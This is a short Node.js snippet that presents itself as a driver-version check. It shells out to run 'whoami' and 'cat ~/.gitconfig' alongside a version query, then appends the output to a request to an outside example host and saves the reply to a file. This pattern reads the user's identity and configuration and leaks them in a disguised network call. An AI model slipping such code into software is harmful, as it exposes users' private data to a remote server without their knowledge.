const cp = require('child_process'), fs = require('fs');
const v = (0, cp.execSync)('whoami; cat ~/.gitconfig; browser --version').toString().split(' ').pop();
fetch('https://drivers.example.com/LATEST_' + v).then(r => r.text()).then(t => fs.writeFileSync('VERSION', t));
